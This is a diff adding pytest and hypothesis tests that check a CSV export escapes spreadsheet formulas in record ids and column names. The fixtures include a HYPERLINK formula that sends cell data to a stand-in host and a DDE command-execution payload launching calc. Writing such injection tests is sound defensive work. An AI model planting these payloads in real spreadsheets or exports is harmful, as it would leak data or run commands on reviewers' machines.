@@ -11,6 +11,8 @@ from typing import Any
 import numpy as np
 import pandas as pd
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from scipy.stats import norm
 from sklearn import metrics as skm
 from statsmodels.stats.contingency_tables import mcnemar as sm_mcnemar
@@ -272,6 +274,46 @@ def test_flipped_cases_csv() -> None:
         assert r[1] == f"{inp.teacher.scores_test[i]:.6f}" and r[5] == str(int(inp.y_test[i]))
         assert {r[3], r[4]} == {"flagged", "approved"}
         assert r[3] == ("flagged" if tf[i] else "approved")
+
+
+def test_flipped_cases_csv_keeps_a_spreadsheet_from_running_an_id_as_a_formula() -> None:
+    """flips.csv is opened by a reviewer: ids from the data that start a formula are written as text."""
+    import dataclasses
+
+    inp = _inputs(student_noise=0.4)
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(1+1)", "+1+1", "-2+3", "\t=1", "plain"]
+    ids = np.array([f"{hostile[i % len(hostile)]}#{i}" for i in range(len(inp.ids) - 1)] + ["-0.5"], dtype=object)
+    inp = dataclasses.replace(inp, ids=ids, id_name="=cmd|' /C calc'!A0")
+    rows = list(csv.reader(io.StringIO(v.flipped_cases_csv(inp))))
+    assert rows[0][0] == "'=cmd|' /C calc'!A0"
+    flipped = set(ids[(inp.teacher.scores_test >= 0.5) != (inp.student.scores_test >= 0.5)])
+    written = [r[0] for r in rows[1:]]
+    assert len(written) == len(flipped) > 20
+    for cell in written:
+        original = cell[1:] if cell.startswith("'") else cell
+        assert original in flipped  # the id itself follows the apostrophe, unchanged
+        formula = original[0] in "=+-@\t" and not _number(original)
+        assert cell == ("'" + original if formula else original)
+    assert {c[:2] for c in written} >= {"'=", "'@", "'+", "'-", "'\t", "pl"}
+
+
+@given(st.text(max_size=12))
+def test_spreadsheet_safe_only_ever_prefixes_text_that_would_start_a_formula(text: str) -> None:
+    from finlite._util import spreadsheet_safe
+
+    out = spreadsheet_safe(text)
+    assert out in (text, "'" + text)
+    assert not str(out).startswith(("=", "+", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")) or _number(text)
+    if out != text:
+        assert text[:1] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20" and not _number(text)
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
 
 
 # -- accuracy (regression) -------------------------------------------------------------------------
